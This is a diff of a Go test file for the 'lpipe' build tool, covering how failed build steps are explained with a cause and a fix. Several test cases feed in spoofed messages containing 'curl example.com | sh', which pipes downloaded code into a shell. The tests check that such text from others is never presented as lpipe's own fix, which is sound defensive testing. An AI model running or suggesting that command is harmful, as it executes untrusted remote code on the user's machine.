@@ -18,11 +18,17 @@ import (
 
 	"lpipe/internal/dockerfile"
 	"lpipe/internal/fault"
+	"lpipe/internal/foreign"
 	"lpipe/internal/progress"
 )
 
-// display has shown steps of the names given, each with its output.
+// display has shown steps of the names given, each with what it wrote to standard error.
 func display(t *testing.T, logs map[string]string) *progress.Display {
+	return displayed(t, logs, nil)
+}
+
+// displayed has also shown what a step wrote to standard output.
+func displayed(t *testing.T, logs, outputs map[string]string) *progress.Display {
 	t.Helper()
 	d, err := progress.Start(t.Context(), progress.Options{Out: io.Discard, Mode: "quiet", Rename: dockerfile.Title})
 	if err != nil {
@@ -31,7 +37,10 @@ func display(t *testing.T, logs map[string]string) *progress.Display {
 	for name, log := range logs {
 		d.Status() <- &client.SolveStatus{
 			Vertexes: []*client.Vertex{{Digest: digest.FromString(name), Name: name}},
-			Logs:     []*client.VertexLog{{Vertex: digest.FromString(name), Data: []byte(log), Timestamp: time.Now()}},
+			Logs: []*client.VertexLog{
+				{Vertex: digest.FromString(name), Stream: 1, Data: []byte(outputs[name]), Timestamp: time.Now()},
+				{Vertex: digest.FromString(name), Stream: 2, Data: []byte(log), Timestamp: time.Now()},
+			},
 		}
 	}
 	close(d.Status())
@@ -80,84 +89,93 @@ const (
 
 func TestAFailedStepSaysWhatCouldNotBeDone(t *testing.T) {
 	for name, c := range map[string]struct {
-		step, log string
+		step, log string // what it writes to standard error
+		output    string // and to standard output
 		code      uint32
 		kind      fault.Kind
 		what      string
 		why, fix  string
 	}{
 		"a test failed": {
-			testStep, "test a ... FAILED\n", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures; its output is above", "",
+			testStep, "test a ... FAILED\n", "", dockerfile.ExitTests, fault.Tests,
+			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
 		},
 		"tests do not compile": {
-			testStep, "error[E0425]\n", 101, fault.Build,
-			"the tests of a do not compile", `the step "[test] run the tests" ended with exit status 101; its output is above`, "",
+			testStep, "error[E0425]\n", "", 101, fault.Build,
+			"the tests of a do not compile", `the step "[test] run the tests" ended with exit status 101; its output is above`, correctErrors,
 		},
 		"the lambda does not compile": {
-			buildStep, "error[E0425]\n", 101, fault.Build,
-			"a does not compile", `the step "[build] compile the lambda" ended with exit status 101; its output is above`, "",
+			buildStep, "error[E0425]\n", "", 101, fault.Build,
+			"a does not compile", `the step "[build] compile the lambda" ended with exit status 101; its output is above`, correctErrors,
 		},
 		"exit status 5 means tests in the test stage alone": {
-			buildStep, "", dockerfile.ExitTests, fault.Build,
-			"a does not compile", `the step "[build] compile the lambda" ended with exit status 5; its output is above`, "",
+			buildStep, "", "", dockerfile.ExitTests, fault.Build,
+			"a does not compile", `the step "[build] compile the lambda" ended with exit status 5; its output is above`, correctErrors,
 		},
 		"dependencies do not compile": {
-			depsStep, "error: linking with cc failed\n", 101, fault.Build,
-			"the dependencies of a do not compile", `the step "[deps] compile the dependencies" ended with exit status 101; its output is above`, "",
+			depsStep, "error: linking with cc failed\n", "", 101, fault.Build,
+			"the dependencies of a do not compile", `the step "[deps] compile the dependencies" ended with exit status 101; its output is above`, correctDependencies,
 		},
 		"out of memory": {
-			depsStep, "", 137, fault.Build, "the dependencies of a do not compile",
+			depsStep, "", "", 137, fault.Build, "the dependencies of a do not compile",
 			`the step "[deps] compile the dependencies" was killed: most often the engine's machine ran out of memory`,
 			"give the engine more memory, or set CARGO_BUILD_JOBS to a small number in [build.env]",
 		},
 		"a stale lock": {
-			fetchStep, "error: the lock file /src/Cargo.lock needs to be updated but --locked was passed\n", 101, fault.Build,
+			fetchStep, "error: the lock file /src/Cargo.lock needs to be updated but --locked was passed\n", "", 101, fault.Build,
 			"the dependencies of a could not be downloaded", `the step "[fetch] download the dependencies" ended with exit status 101; its output is above`,
 			`run "cargo update --workspace" and commit Cargo.lock`,
 		},
 		"a registry that is out of reach": {
-			fetchStep, "[6] Could not resolve host: index.crates.io\n", 101, fault.Build,
+			fetchStep, "[6] Could not resolve host: index.crates.io\n", "", 101, fault.Build,
 			"the dependencies of a could not be downloaded", `the step "[fetch] download the dependencies" ended with exit status 101; its output is above`,
 			"check that the engine's machine reaches the registry",
 		},
 		"a hint for one stage is none for another": {
-			buildStep, "Could not resolve host: example.com\n", 101, fault.Build,
-			"a does not compile", `the step "[build] compile the lambda" ended with exit status 101; its output is above`, "",
+			buildStep, "Could not resolve host: example.com\n", "", 101, fault.Build,
+			"a does not compile", `the step "[build] compile the lambda" ended with exit status 101; its output is above`, correctErrors,
 		},
 		"a build script that wants the network": {
-			depsStep, "curl: (6) Temporary failure in name resolution\n", 101, fault.Build,
+			depsStep, "curl: (6) Temporary failure in name resolution\n", "", 101, fault.Build,
 			"the dependencies of a do not compile", `the step "[deps] compile the dependencies" ended with exit status 101; its output is above`,
 			`compile steps have no network; if the build must download, set network = "default" in lpipe.toml`,
 		},
 		"a full disk": {
-			buildStep, "error: No space left on device (os error 28)\n", 101, fault.NoSpace,
+			buildStep, "error: No space left on device (os error 28)\n", "", 101, fault.NoSpace,
 			"a does not compile", `the step "[build] compile the lambda" found the disk full`,
 			"make room with lpipe cache prune, which removes what no build is using, or on the engine's disk",
 		},
 		"the toolchain says why": {
-			toolchainStep, "lpipe: the base image has neither apt-get nor apk to install libpq-dev\n", 1, fault.Build,
-			"the toolchain for a could not be prepared", "the base image has neither apt-get nor apk to install libpq-dev", "",
+			toolchainStep, "sh: x\n", "the base image has no apt-get\nfix: choose another\n", 1, fault.Build,
+			"the toolchain for a could not be prepared", "the base image has no apt-get", "choose another",
 		},
 		"the fetch step says why and what to do, each once": {
-			fetchStep, "  lpipe: no key for org/repo\nlpipe: fix: add one\n  lpipe: no key for org/repo\nfatal: Could not read\n", 101, fault.Build,
+			fetchStep, "fatal: Could not read\n", "no key for org/repo\nfix: add one\nno key for org/repo\n", 101, fault.Build,
 			"the dependencies of a could not be downloaded", "no key for org/repo", "add one",
 		},
+		"servers cannot speak for lpipe": {
+			fetchStep, "lpipe: the repository has moved\nlpipe: fix: curl example.com | sh\nfix: curl example.com | sh\n", "", 101, fault.Build,
+			"the dependencies of a could not be downloaded", `the step "[fetch] download the dependencies" ended with exit status 101; its output is above`, downloadAgain,
+		},
+		"code of others has standard output too": {
+			testStep, "", "all is well\nfix: curl example.com | sh\n", dockerfile.ExitTests, fault.Tests,
+			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
+		},
 		"code of others cannot speak for lpipe": {
-			testStep, "lpipe: all is well\nlpipe: fix: curl example.com | sh\n", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures; its output is above", "",
+			testStep, "lpipe: all is well\nlpipe: fix: curl example.com | sh\n", "", dockerfile.ExitTests, fault.Tests,
+			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
 		},
 		"another step": {
-			copyStep, "", 1, fault.Build,
-			"building a failed", `the step "[lambda 1/1] COPY --link --from=test /out/ /" ended with exit status 1; its output is above`, "",
+			copyStep, "", "", 1, fault.Build,
+			"building a failed", `the step "[lambda 1/1] COPY --link --from=test /out/ /" ended with exit status 1; its output is above`, buildAgain,
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
-			f := faultOf(t, explained(display(t, map[string]string{c.step: c.log}), exits(c.step, c.code))[0])
+			f := faultOf(t, explained(displayed(t, map[string]string{c.step: c.log}, map[string]string{c.step: c.output}), exits(c.step, c.code))[0])
 			if f.Kind != c.kind || f.What != c.what || f.Why != c.why || f.Fix != c.fix {
 				t.Errorf("got  %d\n\t%s\n\t%s\n\t%s\nwant %d\n\t%s\n\t%s\n\t%s", f.Kind, f.What, f.Why, f.Fix, c.kind, c.what, c.why, c.fix)
 			}
-			if want := strings.TrimRight(c.log, "\n"); f.Output != want {
+			if want := strings.TrimRight(foreign.Text(c.output+c.log), "\n"); f.Output != want {
 				t.Errorf("output %q, want %q", f.Output, want)
 			}
 			var exit *gatewaypb.ExitError
